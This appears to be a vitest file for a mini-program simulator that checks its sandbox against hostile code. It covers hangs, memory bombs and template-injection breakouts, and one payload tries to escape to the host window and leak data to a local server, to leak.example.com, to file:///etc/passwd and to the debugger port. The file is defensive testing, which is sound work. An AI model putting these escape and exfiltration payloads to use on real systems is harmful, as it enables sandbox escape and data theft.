import { createSocket } from 'node:dgram'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { loadProgram } from '../../program/load.ts'
import { memoryFiles } from '../../program/memory.ts'
import { buildProgram } from '../../simulator/build/index.ts'
import { profiles } from '../../simulator/profiles.ts'
import { findChromium, type OpenBrowser, startBrowser } from './chromium.ts'
import { openSimulator, type Simulator } from './simulator.ts'

const here = findChromium() !== null
const run = describe.skipIf(!here)
if (!here) console.warn('browser tests skipped: no chromium on this machine (install it or set MENSHEN_CHROMIUM)')

let browser: OpenBrowser
let server: Server
const reached: string[] = []
const udp = createSocket('udp4')
let port = 0
let udpPort = 0

async function launch(
  script: string,
  template = '<view bindtap="go">go</view><view>{{out}}</view>',
  more: Record<string, string> = {},
): Promise<Simulator> {
  const files = {
    'app.json': '{"pages":["p/p","q/q"]}',
    'app.js': 'App({})',
    'p/p.js': script,
    'p/p.wxml': template,
    'q/q.js': 'Page({})',
    'q/q.wxml': '<view>q</view>',
    ...more,
  }
  const simulator = await openSimulator(buildProgram(loadProgram(memoryFiles(files, 'hostile'), { root: '' })), {
    browser,
    patience: 1500,
    profile: { ...profiles['accept-all'], answerDelay: 20 },
  })
  await simulator.launch()
  return simulator
}
const go = async (s: Simulator) => {
  const all = await s.tappables()
  const target = all.find((t) => t.text === 'go')
  if (target) await s.tap(target)
  await s.settle(60, 800)
}
const host = (s: Simulator) => s.records().flatMap((r) => (r.kind === 'host' ? [r.what] : []))
const words = async (s: Simulator) => (await s.state())?.text.map((t) => t.text).join(' ') ?? ''

beforeAll(async () => {
  if (!here) return
  browser = await startBrowser()
  server = createServer((request, response) => {
    reached.push(String(request.url))
    response.end('x')
  })
  server.on('upgrade', (request) => reached.push('upgrade ' + request.url))
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r))
  port = (server.address() as AddressInfo).port
  udp.on('message', () => reached.push('udp'))
  await new Promise<void>((r) => udp.bind(0, '127.0.0.1', r))
  udpPort = udp.address().port
}, 180_000)
afterAll(async () => {
  await browser?.close()
  server?.close()
  udp.close()
}, 180_000)

run('a program that means harm', () => {
  test('a loop in a tap is found, named and ended; the program goes on', async () => {
    const s = await launch('Page({go(){\n  for(;;){}\n}})')
    await go(s)
    const hang = s.records().find((r) => r.kind === 'host' && r.what === 'hang')
    expect(hang).toMatchObject({ stack: [{ file: 'p/p.js', line: 2 }] })
    await s.open('q/q')
    expect((await s.state())?.route).toBe('q/q')
    await s.close()
  }, 180_000)

  test('an endless chain of microtasks and of nextTick is bounded', async () => {
    const s = await launch('Page({go(){const f=()=>Promise.resolve().then(f);f()}})')
    await go(s)
    expect(host(s)).toContain('hang')
    await s.open('q/q')
    expect((await s.state())?.route).toBe('q/q')
    await s.close()
    const t = await launch('Page({go(){const f=()=>{this.setData({out:Math.random()});wx.nextTick(f)};f()}})')
    await go(t)
    await t.open('q/q')
    expect((await t.state())?.route).toBe('q/q')
    await t.close()
  }, 180_000)

  test('memory without end takes the page, not the reviewer', async () => {
    const s = await launch('Page({go(){const a=[];for(;;)a.push(new Array(1e6).fill({x:Math.random()}))}})')
    await go(s)
    await s.wait(500)
    await s.open('q/q')
    expect((await s.state())?.route).toBe('q/q')
    expect(host(s).some((w) => w === 'crash' || w === 'hang')).toBe(true)
    await s.close()
  }, 180_000)

  test('nothing reaches any network, whatever window it finds', async () => {
    const attack = `Page({data:{out:''},onLoad(){
      const found={};
      const attempt=(n,f)=>{try{const v=f();found[n]=v===undefined?'undefined':'value'}catch(e){found[n]='threw'}};
      attempt('function',()=>(function(){}).constructor('return this.document')());
      attempt('eval',()=>(0,eval)('1'));
      const c=this; let W=null;
      try{ W=c._$.$$.ownerDocument.defaultView }catch(e){}
      const at='127.0.0.1:<PORT>';
      this.reach=()=>{ try{ W=c._$.$$.ownerDocument.defaultView }catch(e){}
        if(!W) return;
        attempt('fetch',()=>{W.fetch('http://'+at+'/fetch').catch(()=>{});return 1});
        attempt('xhr',()=>{const x=new W.XMLHttpRequest();x.open('GET','http://'+at+'/xhr');x.send();return 1});
        attempt('ws',()=>{new W.WebSocket('ws://'+at+'/ws');return 1});
        attempt('beacon',()=>{W.navigator.sendBeacon('http://'+at+'/beacon','x');return 1});
        attempt('image',()=>{new W.Image().src='http://'+at+'/image?leak=1';return 1});
        attempt('frame',()=>{const f=W.document.createElement('iframe');f.src='http://'+at+'/frame';W.document.body.append(f);return 1});
        attempt('link',()=>{const l=W.document.createElement('link');l.rel='prefetch';l.href='http://'+at+'/link';W.document.head.append(l);return 1});
        attempt('dns',()=>{const l=W.document.createElement('link');l.rel='dns-prefetch';l.href='//leak.example.com';W.document.head.append(l);return 1});
        attempt('form',()=>{const f=W.document.createElement('form');f.action='http://'+at+'/form';W.document.body.append(f);f.submit();return 1});
        attempt('script',()=>{const e=W.document.createElement('script');e.src='http://'+at+'/script';W.document.head.append(e);return 1});
        attempt('inline',()=>{const e=W.document.createElement('script');e.textContent='window.__ran=1';W.document.head.append(e);return W.__ran});
        attempt('popup',()=>W.open&&W.open('http://'+at+'/popup'));
        attempt('blank',()=>{const f=W.document.createElement('iframe');W.document.body.append(f);const w=f.contentWindow;try{w.__menshenSend('{"id":1,"kind":"call"}')}catch(e){};try{new w.RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:<UDP>'}]}).createDataChannel('x')}catch(e){};return 1});
        attempt('rtc',()=>{const p=new W.RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:<UDP>'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o));return 1});
        attempt('worker',()=>new W.Worker(W.URL.createObjectURL(new W.Blob(['fetch("http://'+at+'/worker")']))));
        attempt('service',()=>{W.navigator.serviceWorker.register('/__app/sw.js');return 1});
        attempt('file',()=>{W.fetch('file:///etc/passwd').catch(()=>{});return 1});
        attempt('debugger',()=>{W.fetch('http://127.0.0.1:9222/json').catch(()=>{});return 1});
        attempt('shared',()=>new W.SharedWorker('data:text/javascript,1'));
        attempt('alerts',()=>{for(let i=0;i<500;i++)W.alert('storm '+i)});
        attempt('confirm',()=>W.confirm('x'));
        attempt('print',()=>W.print());
        attempt('forks',()=>{for(let i=0;i<20;i++){const f=W.document.createElement('iframe');W.document.body.append(f);const w=f.contentWindow;if(w.Worker||w.SharedWorker||w.RTCPeerConnection)return new w.Worker('data:text/javascript,for(;;){}')}});
        attempt('eventsource',()=>{new W.EventSource('http://'+at+'/events');return 1});
        attempt('transport',()=>new W.WebTransport('https://'+at+'/transport'));
        attempt('css',()=>{const e=W.document.createElement('style');e.textContent='@import "http://'+at+'/sheet";body{cursor:url(http://'+at+'/cursor)}';W.document.head.append(e);return 1});
        attempt('video',()=>{const v=W.document.createElement('video');v.src='http://'+at+'/video';v.load();return 1});
        attempt('leave',()=>{W.location.href='http://'+at+'/leave';return 1});
      };
      wx.setStorageSync('found',found); this.found=found;
    },go(){this.reach();wx.setStorageSync('found',this.found)}})`
      .replaceAll('<PORT>', String(port))
      .replaceAll('<UDP>', String(udpPort))
    const s = await launch(attack)
    await go(s)
    await s.wait(1200)
    expect(reached).toEqual([])
    const sets = s.records().flatMap((r) => (r.kind === 'storage' && r.key === 'found' ? [r.value as Record<string, string>] : []))
    expect(sets[0]).toMatchObject({ function: 'threw', eval: 'threw' })
    const last = sets[sets.length - 1] as Record<string, string>
    expect(last.fetch).toBe('value')
    for (const shut of ['rtc', 'worker', 'shared', 'alerts', 'confirm', 'print', 'transport']) expect(last[shut]).toBe('threw')
    expect(last.forks).toBe('undefined')
    expect(last.inline).toBe('undefined')
    await s.open('q/q')
    expect((await s.state())?.route).toBe('q/q')
    await s.close()
  }, 180_000)

  test('the record stays whole when prototypes and globals are replaced', async () => {
    const s = await launch(`
JSON.stringify=()=>'{}'; JSON.parse=()=>({});
Object.prototype.toJSON=function(){return 'gone'}; Array.prototype.push=function(){return 0}; Array.prototype.map=function(){return []};
String.prototype.slice=()=>''; String.prototype.split=()=>[]; Object.keys=()=>[]; Error.prepareStackTrace=()=>'nothing'; Error.captureStackTrace=()=>{};
Array.isArray=()=>false; Function.prototype.call=function(){}; RegExp.prototype.exec=()=>null;
wx.getLocation({type:'gcj02'});
Page({})`)
    await s.wait(300)
    const call = s.records().find((r) => r.kind === 'call' && r.api === 'getLocation')
    expect(call).toMatchObject({ args: { type: 'gcj02' }, cause: { tap: null } })
    expect(call?.kind === 'call' && call.stack[0]).toMatchObject({ file: 'p/p.js', line: 6 })
    expect(host(s)).not.toContain('forged')
    await s.close()
  }, 180_000)

  test('time that is driven hangs no less bounded, and the pass goes on', async () => {
    const files = {
      'app.json': '{"pages":["p/p","q/q"]}',
      'app.js': 'App({})',
      'p/p.js': 'Page({onLoad(){setTimeout(()=>{\n  for(;;){}\n},3000)}})',
      'p/p.wxml': '<view>p</view>',
      'q/q.js': 'Page({})',
      'q/q.wxml': '<view>q</view>',
    }
    const s = await openSimulator(buildProgram(loadProgram(memoryFiles(files, 'hostile'), { root: '' })), {
      browser,
      driven: true,
      patience: 1500,
    })
    await s.launch()
    await s.wait(6500)
    expect(s.records().find((r) => r.kind === 'host' && r.what === 'hang')).toMatchObject({ stack: [{ file: 'p/p.js', line: 2 }] })
    await s.open('q/q')
    await s.wait(2000)
    expect((await s.state())?.route).toBe('q/q')
    await s.close()
  }, 180_000)

  test('a program that looks at the screen for us still leaves its record', async () => {
    const s = await launch(`Page({data:{out:''},go(){
      const W=this._$ && this._$.$$ && this._$.$$.ownerDocument.defaultView
      if(W){ W.getComputedStyle=()=>{throw new Error('no')}; W.Document.prototype.elementFromPoint=()=>null; W.Document.prototype.createTreeWalker=()=>({nextNode:()=>null}); W.Element.prototype.getBoundingClientRect=()=>({x:0,y:0,width:0,height:0,top:0,left:0,right:0,bottom:0}); W.performance.now=()=>0; W.setTimeout=()=>0; W.MessageChannel=function(){} }
      wx.getLocation({type:'gcj02'}) }})`)
    await go(s)
    await s.wait(200)
    expect(s.records().find((r) => r.kind === 'call' && r.api === 'getLocation')).toMatchObject({ args: { type: 'gcj02' } })
    await s.open('q/q')
    expect(s.records().some((r) => r.kind === 'navigation' && r.to === 'q/q' && r.ok)).toBe(true)
    await s.close()
  }, 180_000)

  test('a script can not climb out of its function, nor a template script', async () => {
    const s = await launch(
      `Page({data:{out:typeof globalThis.document}})\n}).call(this)},"x");__menshenPort.run("answer",{});window.__out=1;(function(){(function(){`,
      '<wxs module="m">module.exports={}; }; window.__out=1; function x(){</wxs><view>{{out}}</view>',
      {
        'q/q.js': 'Page({data:{out:typeof window + typeof document + typeof fetch + typeof __menshenPort + typeof __menshenSend}})',
        'q/q.wxml': '<view>{{out}}</view>',
      },
    )
    await s.open('q/q')
    expect(await words(s)).toContain('undefinedundefinedundefinedundefinedundefined')
    expect(s.records().find((r) => r.kind === 'error' && r.where === 'load p/p.js')).toMatchObject({ blame: 'program' })
    await s.close()
  }, 180_000)

  test('a storm of prompts, records and moves is bounded', async () => {
    const s = await launch(`Page({go(){
      for(let i=0;i<3000;i++){ wx.showModal({title:'x'+i}); console.log(i); wx.setStorageSync('k'+i,i); wx.vibrateShort() }
      for(let i=0;i<200;i++) wx.navigateTo({url:'/q/q'})
    }})`)
    await go(s)
    await s.wait(300)
    expect(s.recordCount).toBeLessThan(20_300)
    expect(host(s)).toContain('limit')
    expect((await s.state())?.stack.length).toBeLessThanOrEqual(10)
    await s.close()
  }, 180_000)
})
